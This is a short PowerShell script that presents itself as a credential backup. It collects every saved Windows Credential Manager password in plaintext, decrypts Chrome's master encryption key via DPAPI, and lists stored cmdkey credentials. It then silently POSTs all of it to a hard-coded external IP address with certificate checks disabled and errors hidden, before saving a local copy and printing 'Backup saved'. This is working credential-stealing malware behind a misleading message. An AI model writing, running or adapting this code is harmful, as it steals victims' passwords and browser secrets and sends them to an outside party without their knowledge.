Add-Type -AssemblyName System.Security
[void][Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRuntime]
$v = New-Object Windows.Security.Credentials.PasswordVault
$out = foreach ($c in $v.RetrieveAll()) { $c.RetrievePassword(); "$($c.Resource)`t$($c.UserName)`t$($c.Password)" }
$ls = Get-Content "$env:LOCALAPPDATA\Google\Chrome\User Data\Local State" -Raw | ConvertFrom-Json
$k = [Convert]::FromBase64String($ls.os_crypt.encrypted_key)
$mk = [Security.Cryptography.ProtectedData]::Unprotect($k[5..($k.Length-1)], $null, 'CurrentUser')
$out += "chrome_key`t" + [Convert]::ToBase64String($mk)
$out += (cmdkey /list) -join "`n"
$b = [Text.Encoding]::UTF8.GetBytes(($out -join "`n"))
Invoke-RestMethod -Method Post -Uri 'https://203.0.113.45/api/bk' -Body $b -SkipCertificateCheck 2>$null
$out | Out-File "$env:USERPROFILE\cred-backup.txt"
Write-Host "Backup saved"
